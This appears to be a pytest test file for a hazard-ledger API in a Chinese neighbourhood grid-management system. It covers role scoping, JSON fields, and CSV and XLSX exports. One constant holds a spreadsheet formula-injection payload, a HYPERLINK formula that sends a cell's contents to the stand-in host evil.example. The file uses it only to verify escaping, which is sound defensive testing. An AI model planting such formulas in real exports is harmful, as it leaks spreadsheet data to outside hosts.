# ruff: noqa: F811
"""GET /api/v1/ledgers/hazards (事故隐患台账, CONTRACT §7): reports through POST /api/v1/reports, confirmed, referred
and resolved (a recheck opens), then the ledger's scope, JSON, CSV (BOM, formula escaping), XLSX and roles."""

from __future__ import annotations

import io
from typing import Any

import httpx
import psycopg
import pytest
from apitools import RunningApi, api, as_, client, tokens  # noqa: F401

from gridhub.api.routes_ledgers import HAZARD_LEDGER

# the module's hazards are moved to one day of 2025 that no other test uses: the ledger of that day is exactly them
DAY = {"start": "2025-04-15T00:00:00+08:00", "end": "2025-04-16T00:00:00+08:00"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
HEADERS = [c.header for c in HAZARD_LEDGER]


def act(client: httpx.Client, tokens: dict[str, str], wid: str, task_id: str, action: str, **body: Any) -> None:
    r = client.post(f"/api/v1/tasks/{task_id}/{action}", json=body, **as_(tokens, wid))
    assert r.status_code == 200, (action, r.text)


@pytest.fixture(scope="module")
def hazards(api: RunningApi, tokens: dict[str, str], db_url: str) -> dict[str, str]:
    """An e-bike hazard in g-xg-01 (b-12) reported by w-003: confirmed, referred, resolved fixed (a recheck opens);
    a gas hazard in g-xg-02 (b-20) reported by w-001 whose description is a formula, left open."""
    with httpx.Client(base_url=api.url, timeout=30) as client:
        return _report_and_handle(client, tokens, db_url)


def _report_and_handle(client: httpx.Client, tokens: dict[str, str], db_url: str) -> dict[str, str]:
    ids: dict[str, str] = {}
    for key, wid, data in (
        ("g1", "w-003", {"category": "ebike", "building": "b-12", "floor": "3", "place": "三楼楼道",
                         "description": "电动自行车在楼道充电"}),
        ("g2", "w-001", {"category": "gas", "building": "b-20", "description": EVIL}),
    ):
        r = client.post("/api/v1/reports", data=data, **as_(tokens, wid))
        assert r.status_code == 201, r.text
        ids[key] = r.json()["id"]
    tid = ids["g1"]
    act(client, tokens, "w-002", tid, "confirm", note="核实属实")
    act(client, tokens, "w-001", tid, "refer", department="物业", note="请物业清理")
    act(client, tokens, "w-001", tid, "accept")
    act(client, tokens, "w-002", tid, "refer", department="消防救援", note="请消防核查")
    act(client, tokens, "w-001", tid, "resolve", resolution="fixed", note="已清理")
    with psycopg.connect(db_url) as conn:
        row = conn.execute("SELECT id FROM tasks WHERE source_task_id = %s AND type = 'recheck'", (tid,)).fetchone()
        assert row is not None
        ids["recheck"] = row[0]
        conn.execute("UPDATE tasks SET opened_at = '2025-04-15 09:00:00+08', confirmed_at = '2025-04-15 09:10:00+08',"
                     " resolved_at = '2025-04-15 11:00:00+08' WHERE id = %s", (tid,))
        conn.execute("UPDATE tasks SET opened_at = '2025-04-15 15:00:00+08' WHERE id = %s", (ids["g2"],))
        conn.commit()
    return ids


def ledger(client: httpx.Client, tokens: dict[str, str], wid: str, **params: Any) -> httpx.Response:
    return client.get("/api/v1/ledgers/hazards", params={**DAY, **params}, **as_(tokens, wid))


def test_json_rows_in_scope(client: httpx.Client, tokens: dict[str, str], hazards: dict[str, str]) -> None:
    r = ledger(client, tokens, "w-002")
    assert r.status_code == 200, r.text
    items = r.json()["items"]
    assert [i["id"] for i in items] == [hazards["g1"]]  # the grid head of g-xg-01 only
    row = items[0]
    assert (row["category"], row["category_name"], row["grid_id"], row["street"], row["community"]) == (
        "ebike", "电动自行车", "g-xg-01", "厦港街道", "沙坡尾社区")
    assert (row["building_id"], row["place"], row["description"]) == ("b-12", "三楼楼道", "电动自行车在楼道充电")
    assert row["reported_by_id"] == "w-003" and row["reported_by"]
    assert row["reported_at"] == "2025-04-15T09:00:00.000+08:00"
    assert row["confirmed_at"] == "2025-04-15T09:10:00.000+08:00"
    assert row["resolved_at"] == "2025-04-15T11:00:00.000+08:00"
    assert (row["state"], row["resolution"], row["referrals"]) == ("resolved", "fixed", ["物业", "消防救援"])
    assert (row["recheck_id"], row["recheck_state"], row["recheck_resolution"]) == (hazards["recheck"], "open", None)
    assert row["drill"] is False
    for wid in ("s-001", "b-001", "a-001"):
        ids = [i["id"] for i in ledger(client, tokens, wid).json()["items"]]
        assert ids == [hazards["g1"], hazards["g2"]], wid  # oldest first; the recheck is not a hazard
    g2 = ledger(client, tokens, "w-004").json()["items"]
    assert [i["id"] for i in g2] == [hazards["g2"]]
    assert g2[0]["description"] == EVIL and g2[0]["confirmed_at"] is None and g2[0]["recheck_id"] is None
    assert [i["id"] for i in ledger(client, tokens, "s-001", grid="g-xg-02").json()["items"]] == [hazards["g2"]]
    assert ledger(client, tokens, "w-002", grid="g-xg-02").status_code == 403
    assert ledger(client, tokens, "b-001", grid="g-nowhere").status_code == 404


def test_csv_escapes_the_description(client: httpx.Client, tokens: dict[str, str], hazards: dict[str, str]) -> None:
    import csv

    r = ledger(client, tokens, "s-001", format="csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == 'attachment; filename="hazards-20250415-20250416.csv"'
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == HEADERS and len(rows) == 3
    first = dict(zip(rows[0], rows[1], strict=True))
    assert (first["隐患编号"], first["类别"], first["状态"], first["处置结果"]) == (
        hazards["g1"], "电动自行车", "已办结", "已处置")
    assert (first["立案时间"], first["整改时间"], first["移交部门"]) == (
        "2025-04-15 09:10:00", "2025-04-15 11:00:00", "物业、消防救援")
    assert (first["复查任务"], first["复查结果"], first["演练"]) == (hazards["recheck"], "待接单", "否")
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["描述"] == "'" + EVIL and second["类别"] == "燃气" and second["立案时间"] == ""
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_xlsx_sheet_and_headers(client: httpx.Client, tokens: dict[str, str], hazards: dict[str, str]) -> None:
    import openpyxl

    r = ledger(client, tokens, "b-001", format="xlsx")
    assert r.status_code == 200, r.text
    assert r.headers["content-disposition"] == 'attachment; filename="hazards-20250415-20250416.xlsx"'
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["隐患台账"]
    ws = wb["隐患台账"]
    rows = [list(row) for row in ws.iter_rows()]
    assert [c.value for c in rows[0]] == HEADERS and len(rows) == 3
    assert HEADERS[:2] == ["隐患编号", "类别"] and ws.freeze_panes == "A2"
    second = {h: c for h, c in zip(HEADERS, rows[2], strict=True)}
    assert second["描述"].value == EVIL and second["描述"].data_type == "s"  # a string cell, never a formula
    assert rows[1][HEADERS.index("提报时间")].is_date


def test_grid_workers_get_403(client: httpx.Client, tokens: dict[str, str], hazards: dict[str, str]) -> None:
    for wid in ("w-001", "w-003"):
        for fmt in ("json", "csv", "xlsx"):
            assert ledger(client, tokens, wid, format=fmt).status_code == 403, (wid, fmt)
    r = client.get("/api/v1/ledgers/hazards", params={"start": DAY["start"], "end": "2026-04-16T00:00:00+08:00"},
                   **as_(tokens, "b-001"))
    assert r.status_code == 422 and "more than a year" in r.json()["detail"]
